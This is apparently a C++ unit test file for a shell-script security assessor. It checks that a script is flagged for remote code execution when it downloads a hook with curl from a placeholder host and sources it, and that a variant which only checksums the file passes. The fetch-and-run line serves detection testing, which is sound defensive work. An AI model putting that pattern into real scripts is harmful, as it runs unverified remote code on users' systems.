// The classes the fifty-seventh round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog61_MANIFEST.tsv): data pipelines, chat bots, web
// scraping, desktop automation and game tooling, and cloud SDK automation.
// Its aside scored 29/32 before any change; the class below came from its
// tune part (66/68 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// cd into a place partly unknown inside the working tree takes its unknown
// part as one directory: ../../build from ./staging/$DAY is ./build again.
TEST(FiftySeventhRoundClasses, ACdIntoAPartlyUnknownSubdirectoryIsFollowed) {
  const Case cases[] = {
      {"a downloaded hook sourced from a dated staging directory", B,
       "DAY=\"${1:-$(date -u +%F)}\"\n"
       "mkdir -p \"./staging/$DAY\" ./build\n"
       "curl -fsS -o ./build/prepare.sh \"https://exports.example.com/hooks/prepare.sh\"\n"
       "( cd \"./staging/$DAY\" && . ../../build/prepare.sh )\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hook only checksummed from there", L,
       "DAY=\"${1:-$(date -u +%F)}\"\n"
       "mkdir -p \"./staging/$DAY\" ./build\n"
       "curl -fsS -o ./build/prepare.sh \"https://exports.example.com/hooks/prepare.sh\"\n"
       "( cd \"./staging/$DAY\" && sha256sum ../../build/prepare.sh > ./checksums.txt )\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
